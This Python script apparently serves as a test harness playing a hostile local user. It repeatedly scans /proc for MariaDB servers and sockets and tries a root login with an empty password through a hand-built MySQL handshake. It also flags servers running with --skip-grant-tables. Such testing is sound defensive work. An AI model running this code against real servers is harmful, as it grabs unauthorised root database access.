"""Another local user trying to become root in any MariaDB server on this machine, as fast as it can.

Run as an unprivileged user. It looks at every process's command line for a mariadbd (its port and socket) and at
/proc/net/unix for every socket that may be a database's, and tries to log in as root without a password over TCP and
through each socket, again and again, until it is killed. It reports each finding once per change on stdout:
  READY                      it is looking
  SERVER <pid> <arguments>   a mariadbd and its command line
  SKIP_GRANT_TABLES <pid>    a mariadbd that runs without grant checks
  TRY <target> <result>      a login attempt's result, when it differs from the last one for that target:
                             GOT_IN, denied (the server refused the login), or the socket's error name
"""
import errno
import os
import socket
import struct
import sys
import time

CLIENT_FLAGS = 0x1 | 0x200 | 0x8000 | 0x80000   # LONG_PASSWORD, PROTOCOL_41, SECURE_CONNECTION, PLUGIN_AUTH


def report(*words):
    print(*words, flush=True)


def recv_exact(sock, count):
    data = b''
    while len(data) < count:
        chunk = sock.recv(count - len(data))
        if not chunk:
            raise EOFError('closed by the server')
        data += chunk
    return data


def read_packet(sock):
    header = recv_exact(sock, 4)
    return header[3], recv_exact(sock, header[0] | header[1] << 8 | header[2] << 16)


def send_packet(sock, sequence, payload):
    sock.sendall(struct.pack('<I', len(payload))[:3] + bytes([sequence & 0xff]) + payload)


def log_in_as_root(sock):
    """The MySQL protocol's handshake as user root with an empty password; the server's verdict."""
    sequence, greeting = read_packet(sock)
    if greeting[0] == 0xff:
        return 'denied'
    response = (struct.pack('<IIB', CLIENT_FLAGS, 1 << 24, 33) + b'\0' * 23 + b'root\0' + b'\0'
                + b'mysql_native_password\0')
    send_packet(sock, sequence + 1, response)
    while True:
        sequence, reply = read_packet(sock)
        if reply[0] == 0x00:
            return 'GOT_IN'
        if reply[0] == 0xff:
            return 'denied'
        if reply[0] == 0xfe:                         # another authentication method: the empty password again
            send_packet(sock, sequence + 1, b'')
            continue
        return 'unexpected-reply-%d' % reply[0]


def attempt(family, address):
    try:
        with socket.socket(family, socket.SOCK_STREAM) as sock:
            sock.settimeout(2)
            sock.connect(address)
            return log_in_as_root(sock)
    except OSError as e:
        return errno.errorcode.get(e.errno, 'error') if e.errno else type(e).__name__
    except EOFError:
        return 'closed'


def mariadb_servers():
    for pid in os.listdir('/proc'):
        if not pid.isdigit():
            continue
        try:
            with open('/proc/%s/cmdline' % pid, 'rb') as f:
                arguments = [a.decode(errors='replace') for a in f.read().split(b'\0') if a]
        except OSError:
            continue
        if arguments and os.path.basename(arguments[0]) in ('mariadbd', 'mysqld'):
            yield pid, arguments


def option(arguments, name):
    for argument in arguments:
        if argument.startswith(name + '='):
            return argument[len(name) + 1:]
    return None


def database_sockets():
    try:
        with open('/proc/net/unix') as f:
            lines = f.read().splitlines()[1:]
    except OSError:
        return
    for line in lines:
        fields = line.split()
        path = fields[7] if len(fields) >= 8 else ''
        if path.startswith('/') and ('mysql' in path.lower() or 'maria' in path.lower() or path.endswith('.sock')):
            yield path


def main():
    seen = set()
    results = {}

    def tried(target, result):
        if results.get(target) != result:
            results[target] = result
            report('TRY', target, result)

    report('READY')
    while True:
        sockets = set(database_sockets())
        for pid, arguments in mariadb_servers():
            if (pid, tuple(arguments)) not in seen:
                seen.add((pid, tuple(arguments)))
                report('SERVER', pid, ' '.join(arguments))
            if any(a.startswith('--skip-grant-tables') or a.startswith('--skip_grant_tables') for a in arguments):
                report('SKIP_GRANT_TABLES', pid)
            port = option(arguments, '--port')
            if port and port.isdigit() and port != '0' and '--skip-networking' not in arguments:
                tried('tcp:127.0.0.1:' + port, attempt(socket.AF_INET, ('127.0.0.1', int(port))))
            path = option(arguments, '--socket')
            if path:
                sockets.add(path)
        for path in sockets:
            tried('unix:' + path, attempt(socket.AF_UNIX, path))
        time.sleep(0.001)


if __name__ == '__main__':
    sys.exit(main())
